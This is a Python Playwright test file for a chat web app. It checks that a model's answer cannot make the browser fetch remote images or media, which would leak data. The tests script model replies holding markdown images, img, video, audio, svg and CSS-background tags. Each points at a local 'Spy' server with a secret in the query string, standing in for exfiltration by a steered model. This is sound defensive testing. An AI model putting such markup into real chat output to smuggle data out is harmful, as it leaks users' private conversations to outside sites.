"""In a real browser, what a hostile model's answer can make the page do, and what a quick
model's answer must still show.

One app serves the module, on a scripted model whose answers each test sets. A second server
on 127.0.0.1, `Spy`, stands for a stranger's site: it records every request it receives, so
an image that the browser fetched by itself shows up there.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
import yaml
from apprunner import RunningApp
from browser import TIMEOUT_MS, Person
from loopback import LoopbackServer
from playwright.sync_api import expect
from scripted_server import ScriptedServer
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

SECRET = "the-secret-plan"  # what a steered model would smuggle out in an address


class Spy(LoopbackServer):
    """Answers anything with an empty image and remembers the path and query asked for."""

    name = "spy"

    def __init__(self) -> None:
        super().__init__([Route("/{path:path}", self._any, methods=["GET", "POST", "HEAD"])])

    async def _any(self, request: Request) -> Response:
        self._remember({"path": request.url.path, "query": request.url.query})
        return Response(b"", media_type="image/png", headers={"access-control-allow-origin": "*"})

    def asked(self) -> list[str]:
        return [r["path"] for r in self.requests]


@dataclass
class Stack:
    model: ScriptedServer
    spy: Spy
    app: RunningApp

    def answer_with(self, text: str) -> None:
        """The model's next answers: `text`, all at once."""
        self.model.script("tokens", tokens=[text])


@pytest.fixture(scope="module")
def stack(tmp_path_factory) -> Iterator[Stack]:
    root = tmp_path_factory.mktemp("hostile")
    with ScriptedServer() as model, Spy() as spy:
        catalog = root / "models.yaml"
        entry = {
            "id": "scripted",
            "name": "Scripted model",
            "endpoints": [{"type": "openai", "base_url": model.base_url, "model": "scripted"}],
        }
        catalog.write_text(yaml.safe_dump({"models": [entry]}))
        app = RunningApp(root / "data", models=catalog).wait_ready()
        try:
            yield Stack(model, spy, app)
        finally:
            app.stop()


def csp_violations(person: Person) -> list[str]:
    """Start recording what the page's Content-Security-Policy blocks (its console lines)."""
    blocked: list[str] = []
    person.page.on(
        "console",
        lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None,
    )
    return blocked


def until(person: Person, done: Callable[[], bool], what: str) -> None:
    """Wait, checking between the page's tasks, until `done()`."""
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    while not done():
        if time.monotonic() > deadline:
            raise AssertionError(f"never happened: {what}")
        person.page.wait_for_timeout(20)


# -- defect 2: remote images ---------------------------------------------------------------


def test_remote_images_in_messages_are_links_and_never_fetched(people, stack):
    spy = stack.spy.url
    stack.answer_with(
        f"Here is the chart: ![chart](<{spy}/markdown.png?q={SECRET}>)\n\n"
        f'And the diagram: <img src="{spy}/html.png?q={SECRET}" alt="diagram">\n\n'
        "A picture that carries its own bytes stays one: "
        "![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"
    )
    stack.spy.clear()
    me = people(stack.app.url)
    blocked = csp_violations(me)
    me.open()
    me.chat(f"Look: ![mine]({spy}/typed.png?q={SECRET})")

    def links_shown() -> None:
        chat = me.doc.locator("#chatbot")
        expect(chat.get_by_role("link", name="chart")).to_have_attribute(
            "href", f"{spy}/markdown.png?q={SECRET}"
        )
        expect(chat.get_by_role("link", name="diagram")).to_have_attribute(
            "href", f"{spy}/html.png?q={SECRET}"
        )
        expect(chat.get_by_role("link", name="mine")).to_be_visible()
        expect(chat.get_by_role("img", name="dot")).to_have_count(1)

    links_shown()
    me.reload()  # shown again, from the store
    me.open_conversation(me.sidebar()[0])
    links_shown()
    assert stack.spy.asked() == [], "the browser fetched the images by itself"
    assert blocked == [], f"nothing was left for the policy to block: {blocked}"


# Markup an answer may hold that the chat's sanitizer keeps and that makes Chromium fetch an
# address by itself (<link>, <style> and <object> are removed before they are shown).
SLIPS_THROUGH = {
    "/poster.png": '<video poster="{spy}/poster.png"></video>',
    "/video.mp4": '<video src="{spy}/video.mp4"></video>',
    "/audio.mp3": '<audio src="{spy}/audio.mp3" autoplay></audio>',
    "/background.png": '<div style="background-image: url({spy}/background.png)">styled</div>',
    "/svg.png": '<svg width="9" height="9"><image href="{spy}/svg.png" width="9"/></svg>',
    "/input.png": '<input type="image" src="{spy}/input.png" alt="go">',
}


def test_the_content_security_policy_blocks_what_markup_slips_through(people, stack):
    spy = stack.spy.url
    markup = "\n".join(m.format(spy=spy) for m in SLIPS_THROUGH.values())
    stack.answer_with(f"Some markup a model could write:\n\n{markup}\n\nThe end.")
    stack.spy.clear()
    me = people(stack.app.url)
    blocked = csp_violations(me)
    me.open()
    assert blocked == [], f"the policy blocked Gradio's own page: {blocked}"
    me.chat("Show me some markup.")
    expect(me.answers.last).to_contain_text("The end.")

    def tried() -> set[str]:
        refused = {p for line in blocked for p in re.findall(re.escape(spy) + r"(/[\w.]+)", line)}
        return refused | set(stack.spy.asked())

    until(me, lambda: tried() >= SLIPS_THROUGH.keys(), "the page tried every address")
    assert stack.spy.asked() == [], f"the page fetched from another site: {stack.spy.asked()}"
    assert all(spy in line for line in blocked), f"the policy blocked Parlor itself: {blocked}"


# -- defect 10: a new conversation in the sidebar ------------------------------------------


def test_a_new_conversation_always_appears_in_the_sidebar(people, stack):
    """Eight people on slower devices (Chromium's CPU throttling, x4, as on a phone) send a
    first message at the same time, which the model answers at once (six words): every
    sidebar lists the new conversation, without a reload."""
    stack.answer_with("Six words arrive here at once.")
    crowd = [people(stack.app.url).open() for _ in range(8)]
    for me in crowd:
        me.context.new_cdp_session(me.page).send("Emulation.setCPUThrottlingRate", {"rate": 4})
    sent = [me.type_and_send(f"First question number {n}") for n, me in enumerate(crowd)]
    for me, joined in zip(crowd, sent, strict=True):
        me.wait_answered(joined, 1)
    missing = {
        n: me.sidebar()
        for n, me in enumerate(crowd)
        if me.sidebar() != [f"First question number {n}"]
    }
    assert not missing, f"{len(missing)} of 8 sidebars miss the new conversation: {missing}"
